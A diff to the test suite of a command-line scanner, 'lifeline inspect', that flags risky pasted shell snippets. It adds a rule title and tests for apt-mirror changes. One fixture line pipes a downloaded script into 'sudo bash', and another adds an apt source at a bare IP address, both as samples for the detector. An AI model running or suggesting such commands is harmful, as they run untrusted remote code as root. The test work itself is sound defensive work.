@@ -30,7 +30,7 @@ describe('lifeline inspect', () => {
       expect(text).toMatch(/^Verdict: DANGEROUS/)
       expect(text).toContain('2 | curl -fsSL https://fix.example.org/a.sh | sudo bash')
       expect(text).toContain(`  | ${' '.repeat(42)}^^^^^^^^^`)
-      expect(text).toContain('high pipe-to-shell:')
+      expect(text).toContain('high: a download run as a script (pipe-to-shell).')
     })
   })
 
@@ -49,6 +49,7 @@ describe('lifeline inspect', () => {
       expect(json.findings[0]).toEqual({
         rule: 'pipe-to-shell',
         severity: 'high',
+        title: 'a download run as a script',
         line: 2,
         start: 42,
         end: 51,
@@ -91,6 +92,26 @@ describe('lifeline inspect', () => {
     it('exits 64 on a missing file', async () => {
       const t = io()
       expect(await inspectCommand.run(['/nonexistent/post.txt'], t)).toBe(64)
+    })
+  })
+
+  describe('when --mirror names the mirror a pasted source points at', () => {
+    const SOURCE =
+      "sudo tee /etc/apt/sources.list.d/m.sources <<'EOF'\nTypes: deb\nURIs: http://203.0.113.7/\nSuites: noble\nComponents: main\nSigned-By: /usr/share/keyrings/ubuntu-archive-keyring.gpg\nEOF\n"
+    it('reads the source as a mirror switch (low), and without it as one to check (medium)', async () => {
+      const withMirror = io(SOURCE)
+      await inspectCommand.run(['--json', '--mirror', 'http://203.0.113.7/', '-'], withMirror)
+      const a = JSON.parse(withMirror.out.join('')) as { findings: { rule: string; severity: string }[] }
+      expect(a.findings.map((f) => `${f.rule}/${f.severity}`)).toEqual(['mirror-change/low'])
+      const without = io(SOURCE)
+      await inspectCommand.run(['--json', '-'], without)
+      const b = JSON.parse(without.out.join('')) as { findings: { rule: string; severity: string }[] }
+      expect(b.findings.map((f) => `${f.rule}/${f.severity}`)).toContain('mirror-change/medium')
+    })
+
+    it('refuses a --mirror that is not a URL (exit 64)', async () => {
+      const t = io(SOURCE)
+      expect(await inspectCommand.run(['--mirror', 'not a url', '-'], t)).toBe(64)
     })
   })
 })
